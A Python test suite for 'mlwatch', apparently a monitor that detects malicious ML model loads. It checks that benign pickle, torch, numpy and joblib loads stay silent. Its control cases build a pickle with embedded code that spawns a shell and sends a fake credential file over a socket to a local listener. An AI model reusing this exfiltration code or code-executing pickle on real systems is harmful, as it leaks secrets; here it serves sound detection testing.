"""No alert without a malicious model. Every test here proves its scenario
ran (exit status / output / marker / listener) and ends with a liveness
sentinel, so a dead or silent mlwatch cannot make it pass; and each has a
control that shows the silence is the decision under test: the load was
seen and scanned, the same actions alert from a process that loaded a
model, the process was watched when it acted.

Threat model: docs/threat-model.md §3 (benign twins).
"""
from harness import PY, Checks, Scenario, TestFailure, get, require_rules, summary, touching


def benign_load(name, gen_fmt, kind, rel, want_out):
    with Scenario(name) as sc:
        model = sc.make_model(gen_fmt, rel)
        sc.start(sentinel=True)
        ld = sc.run_loader(kind, model).expect_ok("benign loader")
        if not sc.wait_inventory(ld.pid):
            raise TestFailure("the benign load (pid %d) is not in the inventory: mlwatch "
                              "never saw it, so its silence would prove nothing" % ld.pid)
        sc.liveness_sentinel()
        alerts = sc.stop()
        c = Checks()
        verdicts = [get(i, "model", "scan", "verdict") for i in sc.mon.inventory
                    if get(i, "process", "pid") == ld.pid and i.get("complete")]
        c.eq(verdicts, ["clean"], "the benign model, scanned")
        c.true(ld.out.startswith("LOADED " + want_out),
               "benign load printed %r, want 'LOADED %s...'" % (ld.out.strip()[:200], want_out))
        mine = touching(alerts, ld.pid)
        c.true(not mine, "benign %s load (pid %d) raised alerts %s" % (kind, ld.pid, summary(mine)))
        c.done()


def test_benign_pickle():
    benign_load("bpickle", "pickle", "pickle", "model.pkl", "dict keys=bias,name,weights")


def test_benign_torch_state_dict():
    benign_load("btorch", "torch", "torch", "model.pt", "dict keys=layer.bias,layer.weight")


def test_benign_numpy():
    benign_load("bnumpy", "numpy", "numpy", "weights.npy", "ndarray sum=66.0")


def test_benign_joblib_estimator():
    # Unpickling the estimator imports sklearn and SciPy after the open.
    benign_load("bjoblib", "joblib", "joblib", "estimator.joblib",
                "estimator LogisticRegression predict=[1, 0]")


def test_benign_joblib_compressed():
    benign_load("bjoblibz", "joblib-z", "joblib", "estimator_z.joblib",
                "estimator LogisticRegression predict=[1, 0]")


def control_code(marker, cred, port):
    return ("import os, socket, subprocess\n"
            "rc1 = os.system('touch ' + %r)\n"
            "rc2 = subprocess.run(['/bin/sh', '-c', 'true']).returncode\n"
            "s = socket.create_connection(('127.0.0.1', %d), timeout=5)\n"
            "s.sendall(open(%r).read().encode())\n"
            "s.close()\n"
            "print('CONTROL', rc1, rc2, flush=True)\n") % (marker, port, cred)


def test_unmarked_process_does_everything():
    """A python process that opens no model (it still reads site-packages
    *.pth files at start-up, text that must not count as a model) runs a
    shell, connects to an 'external' 127.0.0.1 and reads a credential.
    The control does the same inside a model load: all three alert."""
    with Scenario("control") as sc:
        marker = sc.path("MARKER")
        cred = sc.fake_credentials()
        lst = sc.listener()
        payload = sc.make_model("pickle", "model.pkl",
                                exec_code=control_code(sc.path("MARKER2"), cred, lst.port))
        sc.start(sentinel=True)
        r = sc.run_script(control_code(marker, cred, lst.port)).expect_ok("control")
        sc.expect_file(marker)
        c = Checks()
        c.true(lst.wait(1), "control never connected to the listener")
        c.true(r.out.strip() == "CONTROL 0 0", "control printed %r" % r.out.strip())
        c.true(any(b"AKIAFAKE" in d for d in lst.received), "control did not send the credential")
        want = {"model-loader-shell", "model-loader-external-connect",
                "model-loader-credential-read"}
        ld = sc.run_loader("pickle", payload).expect_ok("the same actions in a load")
        sc.wait_rules(ld.pid, want)
        sc.liveness_sentinel()
        alerts = sc.stop()
        mine = touching(alerts, r.pid)
        c.true(not mine, "unmarked process (pid %d) raised alerts %s" % (r.pid, summary(mine)))
        c.done()
        require_rules(sc, alerts, ld.pid, want)


def test_model_named_text_file_not_marked():
    """notes.pkl holds text the unpickler refuses at its first byte: proven
    to carry no code while the reader still holds it, so the reader is
    unmarked and its shell afterwards is its own business. (Closed before
    mlwatch could read it, it would stay marked: test_failclosed.py.) The
    control reads a real pickle the same way: it stays marked, its shell
    alerts."""
    with Scenario("fakename") as sc:
        marker = sc.path("MARKER")
        text = "# just text that happens to be named .pkl\nimport os\n"
        notes = sc.write("notes.pkl", text)
        real = sc.make_model("pickle", "real.pkl")
        sc.start(sentinel=True)
        code = ("import os, sys, time\nf = open(sys.argv[1], 'rb')\ndata = f.read()\n"
                "time.sleep(1.0)\nf.close()\n"
                "print('READ', len(data), os.system('touch ' + sys.argv[2]), flush=True)\n")
        script = sc.write("reader.py", code)
        r = sc._run([PY, script, notes, marker], 60, tag="reader").expect_ok("reader")
        sc.expect_file(marker)
        ctl = sc._run([PY, script, real, sc.path("MARKER2")], 60, tag="reader").expect_ok("control")
        sc.wait_rules(ctl.pid, {"model-loader-shell"})
        sc.liveness_sentinel()
        alerts = sc.stop()
        c = Checks()
        c.true(r.out.startswith("READ %d 0" % len(text)), "reader printed %r" % r.out.strip())
        mine = touching(alerts, r.pid)
        c.true(not mine, "reader of a text .pkl (pid %d) raised alerts %s" % (r.pid, summary(mine)))
        c.done()
        require_rules(sc, alerts, ctl.pid, {"model-loader-shell"})


def test_benign_training_job_workers():
    """A benign checkpoint load followed by what training jobs do next:
    spawn-context worker processes (as DDP / torch.multiprocessing.spawn
    and DataLoader(multiprocessing_context='spawn') run them) and a joblib
    loky pool. Their bootstrap `python -c` one-liners are not inline code.
    mlwatch -v must have seen them run from the watched job, and the
    control's own `python -c` after the same load alerts."""
    with Scenario("btrain") as sc:
        model = sc.make_model("torch", "model.pt")
        sc.start(sentinel=True, extra_args=["-v"])
        res = sc.run_script(
            "import multiprocessing as mp, torch\n"
            "from joblib import Parallel, delayed\n"
            "def sq(x):\n"
            "    return x * x\n"
            "if __name__ == '__main__':\n"
            "    sd = torch.load(%r)\n"
            "    with mp.get_context('spawn').Pool(2) as pool:\n"
            "        a = sum(pool.map(sq, range(10)))\n"
            "    b = sum(Parallel(n_jobs=2, backend='loky')(delayed(sq)(i) for i in range(10)))\n"
            "    print('TRAINED', sorted(sd), a, b)\n" % model, timeout=120).expect_ok("training job")
        sc.expect_seen("the job's worker bootstrap", lambda e: e["loader"] == res.pid
                       and e["kind"] == "exec" and e["pid"] != res.pid)
        ctl = sc.run_script("import subprocess, sys, torch\ntorch.load(%r)\n"
                            "subprocess.run([sys.executable, '-c', 'print(1)'], check=True)\n"
                            % model, timeout=120).expect_ok("control")
        sc.wait_rules(ctl.pid, {"model-loader-inline-interpreter"})
        sc.liveness_sentinel()
        alerts = sc.stop()
        c = Checks()
        c.true("TRAINED ['layer.bias', 'layer.weight'] 285 285" in res.out,
               "training job printed %r" % res.out.strip()[:300])
        mine = touching(alerts, res.pid)
        c.true(not mine, "benign training job (pid %d) raised alerts %s" % (res.pid, summary(mine)))
        c.done()
        require_rules(sc, alerts, ctl.pid, {"model-loader-inline-interpreter"})
